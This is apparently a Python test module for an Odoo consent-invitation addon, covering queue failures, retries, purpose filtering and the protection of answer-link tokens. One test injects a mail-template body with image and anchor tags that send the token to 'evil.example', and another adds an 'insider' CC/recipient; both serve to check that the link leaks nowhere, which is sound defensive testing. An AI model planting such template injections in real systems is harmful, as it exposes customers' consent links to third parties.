"""The queue of invitations: one that goes wrong holds up no other, and no link lies about."""

import re
from unittest.mock import patch

from psycopg2.errors import SerializationFailure

from odoo import fields
from odoo.tests import tagged
from odoo.tools import mute_logger

from .invitation_common import InvitationCommon

MAIL = "odoo.addons.mail.models.mail_mail"


@tagged("-at_install", "post_install")
class TestInvitationQueue(InvitationCommon):
    def _row(self, partner, **values):
        return self.Invitation.create(
            {
                "company_id": self.company.id,
                "partner_id": partner.id,
                "email": partner.email,
                "address": partner.phone_sanitized,
                "purpose_ids": [(6, 0, self.purposes.ids)],
                **values,
            }
        )

    # --- one row stops no other ---

    def test_corrected_address_of_a_failed_one_is_invited_once(self):
        first, other = self._create_customers(2)
        first.email = "bad@example.com"
        old = self._invite(first)
        self.unreachable = {"bad@example.com"}
        with mute_logger(MAIL):
            self._run_sending()
        self.assertEqual(old.state, "failed")
        first.email = "good@example.com"
        new = self._invite(first)
        self._run_sending()
        self.assertEqual(new.state, "sent")
        old.with_user(self.consent_user).action_retry()
        third = self._invite(other)
        self._run_sending()
        self.assertEqual((old.state, new.state, third.state), ("cancelled", "sent", "sent"))
        self.assertEqual([to for to, _body in self.outbox].count("good@example.com"), 1)

    def test_retry_looks_at_the_address_of_today(self):
        first = self._create_customers(1)
        failed = self._row(first, state="failed", email="old@example.com")
        self._row(first, state="sent")
        failed.with_user(self.consent_user).action_retry()
        self.assertEqual(failed.state, "cancelled")

    def test_queued_row_whose_new_address_is_taken_holds_up_nobody(self):
        first, second, third = self._create_customers(3)
        second.phone = first.phone
        rows = self._row(first) | self._row(second) | self._row(third)
        second.email = first.email
        with self.assertNoLogs("odoo.sql_db", "ERROR"):
            self._run_sending()
        self.assertEqual(rows.mapped("state"), ["sent", "cancelled", "sent"])
        self.assertEqual(len(self.outbox), 2)

    def test_collision_in_the_database_closes_one_row_and_is_not_logged(self):
        first, second = self._create_customers(2)
        sent = self._row(first, state="sent")
        rows = self._row(first, email="old@example.com") | self._row(second)
        # What another transaction has just written is not seen, only the index knows it.
        model = type(self.Invitation)
        with (
            patch.object(model, "_open_twin", lambda *args: False),
            self.assertNoLogs("odoo.sql_db", "ERROR"),
        ):
            self._run_sending()
        self.assertEqual(rows.mapped("state"), ["cancelled", "sent"])
        self.assertEqual(sent.state, "sent")

    def test_serialization_failure_is_no_failed_invitation(self):
        row = self._row(self._create_customers(1))

        def collide(*args, **kwargs):
            raise SerializationFailure()

        for method in ("_screen", "_create_mails"):
            with (
                self.subTest(method),
                patch.object(type(self.Invitation), method, collide),
                self.assertRaises(SerializationFailure),
            ):
                row._hand_over_apart()
            self.assertEqual(row.state, "queued")

    def test_database_errors_are_told_in_a_sentence(self):
        row = self._row(self._create_customers(1))
        detail = f"DETAIL: Key (email)=({row.email})"

        def fail(*args, **kwargs):
            raise ValueError(detail)

        with (
            patch.object(type(self.Invitation), "_create_mails", fail),
            self.assertLogs("odoo.addons.ajw_consent", "INFO") as logs,
        ):
            self._run_sending()
        self.assertEqual(row.state, "failed")
        self.assertNotIn("customer0", row.failure_reason + "".join(logs.output))

    def test_missing_keys_put_everything_off(self):
        row = self._row(self._create_customers(1))
        keyring = type(self.env["ajw.consent.keyring"])
        with patch.object(keyring, "_check", lambda *args: "The keys are missing."):
            self._run_sending()
        self.assertEqual((row.state, row.failure_reason), ("queued", "The keys are missing."))
        self._run_sending()
        self.assertEqual((row.state, row.failure_reason), ("sent", False))

    # --- each is asked about what is left to ask ---

    def test_A5_nobody_is_asked_about_what_was_refused_meanwhile(self):
        first, second = self._create_customers(2)
        both = self._row(first, purpose_ids=[(6, 0, (self.purposes | self.purpose_marketing).ids)])
        one = self._row(second, purpose_ids=[(6, 0, self.purpose_order.ids)])
        self._withdraw(first, self.purpose_marketing)
        self._opt_in(first, self.purpose_invoice)
        self._opt_in(second, self.purpose_order)
        self._run_sending()
        self.assertEqual((both.state, both.purpose_ids), ("sent", self.purpose_order))
        self.assertEqual((one.state, one.purpose_ids), ("cancelled", self.purpose_order))

    # --- links ---

    def test_A8_no_stored_mail_or_message_holds_a_link(self):
        invitation = self._invite()
        with self.enter_registry_test_mode():
            self.env.ref("ajw_consent.ir_cron_invitation").method_direct_trigger()
        message = self.env["mail.message"].search(
            [("model", "=", "ajw.consent.invitation"), ("res_id", "=", invitation.id)]
        )
        self.assertTrue(message)
        stored = str(message.body) + str(invitation.sudo().mail_id.body_html)
        self.assertFalse(invitation.sudo().token_hash)
        self._run_sending()
        token = self._token_of("customer@example.com")
        self.assertNotIn(token, stored)
        self.assertEqual(self.Invitation._resolve(token).problem, "")
        texts = self.env["mail.message"].search([("model", "=", "ajw.consent.invitation")])
        self.assertNotIn(token, str(texts.mapped("body")))

    @mute_logger(MAIL)
    def test_A1_an_edited_template_tells_nobody_else_the_link(self):
        """Who edits the wording of mails needs no right to answer for customers."""
        template = self.env.ref("ajw_consent.mail_template_invitation")
        insider = self._create_partner("Insider", "+919876543999")
        insider.email = "insider@example.com"
        for values in (
            {"email_cc": "insider@example.com"},
            {"email_to": "insider@example.com"},
            {"email_to": "{{ object.email }}, insider@example.com"},
            {"partner_to": str(insider.id), "email_to": False},
        ):
            with self.subTest(values), self.env.cr.savepoint() as savepoint:
                self.outbox.clear()
                template.write(values)
                row = self._invite()
                self._run_sending()
                self.assertEqual(self.outbox, [])
                self.assertEqual(row.state, "failed")
                self.assertIn("nobody else", row.failure_reason)
                self.assertFalse(row.sudo().token_hash)
                savepoint.rollback()
                self.env.invalidate_all()
        template.write({"email_to": False, "partner_to": "{{ object.partner_id.id }}"})
        row = self._invite()
        self._run_sending()
        self.assertEqual(row.state, "sent", "the person, named in another way")

    @mute_logger(MAIL)
    def test_A1_a_link_is_put_nowhere_but_where_it_is_followed(self):
        template = self.env.ref("ajw_consent.mail_template_invitation")
        template.body_html = (
            '<p><img t-attf-src="https://evil.example/{{ object.answer_url }}"/>'
            '<a t-attf-href="https://evil.example/?u={{ object.answer_url }}">Answer</a>'
            '<t t-out="object.answer_url"/></p>'
        )
        self._invite()
        self._run_sending()
        body = self.outbox[-1][1]
        [token] = re.findall(r'href="[^"]*/ajw_consent/invitation/([\w-]+)"', body)
        self.assertEqual(self.Invitation._resolve(token).problem, "")
        self.assertEqual(body.count(token), 1)
        self.assertIn(f'href="{self.Invitation._url_of(token, self.company)}"', body)
        template.body_html = "<p>Please agree.</p>"
        other = self._invite(self._create_customers(1))
        self._run_sending()
        self.assertEqual(other.state, "failed")
        self.assertIn("has no link", other.failure_reason)

    def test_failed_mail_leaves_no_link(self):
        bodies = []
        self.unreachable = {"customer@example.com"}
        invitation = self._invite()
        real = type(self.Invitation)._fill_link

        def fill(model, mail, body):
            bodies.append(real(model, mail, body))
            return bodies[-1]

        with mute_logger(MAIL), patch.object(type(self.Invitation), "_fill_link", fill):
            self._run_sending()
        self.assertEqual(invitation.state, "failed")
        token = str(bodies[0]).partition("/ajw_consent/invitation/")[2].partition('"')[0]
        self.assertEqual(self.Invitation._resolve(token).problem, "unknown")

    # --- what becomes of the mail ---

    def _handed_over(self):
        invitation = self._invite()
        with self.enter_registry_test_mode():
            self.env.ref("ajw_consent.ir_cron_invitation").method_direct_trigger()
        self.env.invalidate_all()
        self.assertTrue(invitation.mail_id)
        return invitation

    def test_mail_cancelled_in_the_queue_cancels_the_invitation(self):
        invitation = self._handed_over()
        invitation.mail_id.cancel()
        self.assertEqual(invitation.state, "cancelled")
        invitation.mail_id.mark_outgoing()
        with mute_logger(MAIL):
            self._run_sending()
        self.assertEqual((invitation.state, self.outbox), ("cancelled", []))

    def test_mail_deleted_from_the_queue_is_not_written_again(self):
        for deleted in ("mail", "message"):
            with self.subTest(deleted):
                invitation = self._handed_over()
                mail = invitation.mail_id
                (mail if deleted == "mail" else mail.mail_message_id).unlink()
                self.env.invalidate_all()
                self._run_sending()
                self.assertEqual((invitation.state, self.outbox), ("cancelled", []))
                invitation.failure_reason.index("deleted")

    def test_failed_mail_sent_again_by_an_administrator(self):
        self.unreachable = {"customer@example.com"}
        invitation = self._invite()
        with mute_logger(MAIL):
            self._run_sending()
        self.assertEqual(invitation.state, "failed")
        self.unreachable = set()
        invitation.mail_id.action_retry()
        self._run_sending()
        self.assertEqual((invitation.state, invitation.failure_reason), ("sent", False))
        self.assertEqual(self._answer(self._token_of("customer@example.com")), "")
        invitation.with_user(self.consent_user).action_retry()
        self._run_sending()
        links = [body for _to, body in self.outbox if "/ajw_consent/invitation/" in body]
        self.assertEqual(len(links), 1)

    def test_waiting_beyond_its_time_is_closed(self):
        invitation = self._handed_over()
        mail = invitation.mail_id
        invitation.expires_at = fields.Datetime.subtract(fields.Datetime.now(), seconds=1)
        self.Invitation._gc_expired()
        self.assertEqual(invitation.state, "expired")
        self.assertFalse(mail.exists())
